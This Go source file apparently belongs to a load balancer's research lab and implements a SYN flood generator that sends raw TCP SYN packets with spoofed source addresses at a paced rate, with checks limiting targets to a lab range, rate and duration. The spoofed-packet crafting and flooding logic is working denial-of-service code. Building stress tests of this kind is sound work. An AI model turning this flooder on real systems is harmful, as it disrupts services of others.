package lab

import (
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"sync/atomic"
	"time"

	"github.com/beamer-lb/beamer/research/netlab"
	"golang.org/x/sys/unix"
)

// Bounds of the SYN flood generator, whatever it is asked: it only ever
// floods a lab VIP from spoofed lab addresses, and stops by itself.
const (
	MaxFloodRate     = 1_000_000 // SYNs per second
	MaxFloodDuration = 10 * time.Minute
)

// Flood is a running SYN flood: TCP SYNs with spoofed sources, sent from a
// client namespace through a raw socket at a paced rate.
type Flood struct {
	Rate    int // asked, SYNs per second
	sent    atomic.Uint64
	started time.Time
	stop    chan struct{}
	done    chan struct{}
	ended   atomic.Int64 // unix nanoseconds when it stopped
}

// StartFlood floods dst with SYNs from random addresses of spoof and
// random ports, at rate per second, for at most duration.
func StartFlood(ns *netlab.Namespace, dst netip.AddrPort, spoof netip.Prefix, rate int, duration time.Duration, seed int64) (*Flood, error) {
	switch {
	case !LabRange.Contains(dst.Addr()) || !LabRange.Overlaps(spoof) || spoof.Bits() < LabRange.Bits():
		return nil, fmt.Errorf("flood: target %v and sources %v must lie in %v", dst, spoof, LabRange)
	case rate < 1 || rate > MaxFloodRate:
		return nil, fmt.Errorf("flood: rate %d: want 1–%d SYNs per second", rate, MaxFloodRate)
	case duration <= 0 || duration > MaxFloodDuration:
		return nil, fmt.Errorf("flood: duration %v: want up to %v", duration, MaxFloodDuration)
	}
	var fd int
	err := ns.Do(func() (err error) {
		// IPPROTO_RAW implies IP_HDRINCL: we write the spoofed header.
		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
		return err
	})
	if err != nil {
		return nil, fmt.Errorf("flood: raw socket: %w", err)
	}
	f := &Flood{Rate: rate, started: time.Now(), stop: make(chan struct{}), done: make(chan struct{})}
	go f.run(fd, dst, spoof, duration, rand.New(rand.NewPCG(uint64(seed), 0x5f1)))
	return f, nil
}

func (f *Flood) run(fd int, dst netip.AddrPort, spoof netip.Prefix, duration time.Duration, r *rand.Rand) {
	defer close(f.done)
	defer unix.Close(fd)
	defer func() { f.ended.Store(time.Now().UnixNano()) }()
	to := &unix.SockaddrInet4{Addr: dst.Addr().As4()}
	pkt := make([]byte, 40)
	base := binary.BigEndian.Uint32(spoof.Masked().Addr().AsSlice())
	span := uint32(1) << (32 - spoof.Bits())
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	end := f.started.Add(duration)
	// A tick sends what is due, but at most a tenth of a second's worth:
	// a machine too slow for the rate sends what it can, and the sender
	// still sees Stop and its end on every tick.
	burst := uint64(max(f.Rate/10, 1))
	attempts := uint64(0)
	for now := range tick.C {
		select {
		case <-f.stop:
			return
		default:
		}
		if now.After(end) {
			return
		}
		due := uint64(now.Sub(f.started).Seconds() * float64(f.Rate))
		for n := uint64(0); attempts < due && n < burst; n++ {
			attempts++
			src := base + r.Uint32N(span)
			synPacket(pkt, src, dst, uint16(1024+r.IntN(64512)), r.Uint32())
			// Never block: a full socket buffer drops the SYN (not counted).
			err := unix.Sendto(fd, pkt, unix.MSG_DONTWAIT, to)
			switch {
			case err == nil:
				f.sent.Add(1)
			case errors.Is(err, unix.ENOBUFS), errors.Is(err, unix.EAGAIN):
			default:
				return
			}
		}
		attempts = max(attempts, due-min(due, burst)) // do not owe more than a burst
	}
}

// Stop ends the flood and waits for the sender.
func (f *Flood) Stop() {
	select {
	case <-f.stop:
	default:
		close(f.stop)
	}
	<-f.done
}

// Sent is the number of SYNs sent so far.
func (f *Flood) Sent() uint64 { return f.sent.Load() }

// Achieved is the rate actually sent, SYNs per second, over the flood's life.
func (f *Flood) Achieved() float64 {
	end := time.Now()
	if e := f.ended.Load(); e != 0 {
		end = time.Unix(0, e)
	}
	if d := end.Sub(f.started).Seconds(); d > 0 {
		return float64(f.Sent()) / d
	}
	return 0
}

// synPacket writes a 40-byte IPv4+TCP SYN with valid checksums.
func synPacket(b []byte, src uint32, dst netip.AddrPort, sport uint16, seq uint32) {
	clear(b)
	b[0], b[8], b[9] = 0x45, 64, 6 // version/IHL, TTL, TCP
	binary.BigEndian.PutUint16(b[2:], 40)
	binary.BigEndian.PutUint32(b[12:], src)
	d := dst.Addr().As4()
	copy(b[16:20], d[:])
	binary.BigEndian.PutUint16(b[10:], checksum(b[:20], 0))
	t := b[20:]
	binary.BigEndian.PutUint16(t[0:], sport)
	binary.BigEndian.PutUint16(t[2:], dst.Port())
	binary.BigEndian.PutUint32(t[4:], seq)
	t[12], t[13] = 5<<4, 0x02 // data offset, SYN
	binary.BigEndian.PutUint16(t[14:], 64240)
	// Pseudo-header: addresses, protocol, TCP length.
	pseudo := uint32(binary.BigEndian.Uint16(b[12:])) + uint32(binary.BigEndian.Uint16(b[14:])) +
		uint32(binary.BigEndian.Uint16(b[16:])) + uint32(binary.BigEndian.Uint16(b[18:])) + 6 + 20
	binary.BigEndian.PutUint16(t[16:], checksum(t, pseudo))
}

// checksum is the Internet checksum of b, starting from sum.
func checksum(b []byte, sum uint32) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
